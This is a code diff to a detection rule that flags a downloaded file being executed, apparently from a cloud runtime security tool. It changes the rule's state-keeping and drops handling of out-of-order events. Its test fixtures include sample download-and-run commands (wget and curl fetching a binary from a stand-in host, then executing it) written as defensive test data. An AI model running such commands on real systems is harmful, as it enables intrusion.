@@ -9,10 +9,15 @@ joined by the file's path, resolved against the process's working directory:
   and boot);
 - ``chmod +x`` in between is usual but not needed (the exec is the evidence; GuardDuty's
   RuntimeContext has no field to say it);
-- the exec of a remembered path fires. An exec that arrives before its download (a spooled batch
-  sent late) is remembered for paths in world-writable directories, and the download then fires.
-  The side that fires does not remember its own end, so a replayed batch fires on the same event
-  again (the findings store counts an event once) and never on the other.
+- the exec of a remembered path fires; a replayed batch fires on the same event again (the findings
+  store counts an event once).
+
+Cost (issue 14): a download also counts in one key per instance and boot (``dlx-n``), and an exec
+reads only that key (one per instance per batch, with the batch's other keys); the remembered path
+is read only on an instance that saved a download within the hour. An agent's events reach ingest in
+order per instance, so the exec never precedes its download; a reordered delivery (an operator
+replaying files out of order) is not joined: remembering every exec from a writable directory to
+catch it cost a State write per new program there (a busy host's tests, builds, package hooks).
 
 Programs under the system's package-managed directories (/usr/bin, /bin, /usr/lib ...) are never
 the executed side. Severity (``vigil.vocab.session``): High from a web/app server or cron child, or
@@ -107,6 +112,11 @@ def _key(event: ProcessActivity, role: str, path: str) -> str:
     return f"dlx-{role}|{d.instance_uid}|{d.boot_uid}|{path}"
 
 
+def _marker(event: ProcessActivity) -> str:
+    d = event.device
+    return f"dlx-n|{d.instance_uid}|{d.boot_uid}"
+
+
 def _hidden_or_writable(path: str) -> bool:
     return in_writable_dir(path) or "/." in path
 
@@ -140,36 +150,23 @@ class DownloadedFileExecuted(Detection):
     def state_keys(self, event: ProcessActivity) -> tuple[str, ...]:
         p = event.process
         saved = _saved_path(p) if _tool(p) in DOWNLOADERS else ""
-        # the keys this exec may remember are loaded too, so a repeat is not written again
-        if saved:
-            return (_key(event, "x", saved), _key(event, "w", saved))
-        path = _candidate(p)
-        if not path:
-            return ()
-        return (
-            (_key(event, "w", path), _key(event, "x", path))
-            if in_writable_dir(path)
-            else (_key(event, "w", path),)
-        )
+        if saved:  # its key is loaded too, so a repeat is not written again
+            return (_key(event, "w", saved), _marker(event))
+        return (_marker(event),) if _candidate(p) else ()
 
     def match(self, event: ProcessActivity, ctx: Context) -> bool:
         p = event.process
         if _tool(p) in DOWNLOADERS:
             saved = _saved_path(p)
-            if not saved:
-                return False
-            if ctx.state.seen(_key(event, "x", saved)):
-                return True  # its exec arrived first; this end is not remembered (replays fire here only)
-            ctx.state.remember(_key(event, "w", saved), TTL_S)
+            if saved and not ctx.state.seen(_key(event, "w", saved)):
+                ctx.state.remember(_key(event, "w", saved), TTL_S)
+                ctx.state.add(_marker(event), 1, TTL_S)
             return False
         path = _candidate(p)
-        if not path:
-            return False
-        if ctx.state.seen(_key(event, "w", path)):
-            return True
-        if in_writable_dir(path):
-            ctx.state.remember(_key(event, "x", path), TTL_S)
-        return False
+        if not path or ctx.state.count(_marker(event)) <= 0:
+            return False  # no download saved on this instance within the hour: nothing to read
+        ctx.state.load((_key(event, "w", path),))
+        return ctx.state.seen(_key(event, "w", path))
 
     def _path(self, event: ProcessActivity) -> str:
         p = event.process
@@ -210,13 +207,6 @@ class DownloadedFileExecuted(Detection):
             (
                 s.exec_(s.proc("/usr/bin/wget", "https://dl.badexample.net/b/agent", pid=3221, cwd="/var/www/html/up")),
                 s.exec_(s.proc("/var/www/html/up/agent", pid=3222, cwd="/var/www/html/up")),
-            ),
-        ),
-        Example(
-            "the exec's batch arrives before the download's",
-            (
-                s.exec_(s.proc("/var/tmp/upd", pid=3232, uid=0), t=2_000_000),
-                s.exec_(s.proc("/usr/bin/curl", "-fsSL", "-o", "/var/tmp/upd", "https://dl.badexample.net/u", pid=3231, uid=0)),
             ),
         ),
     )  # fmt: skip
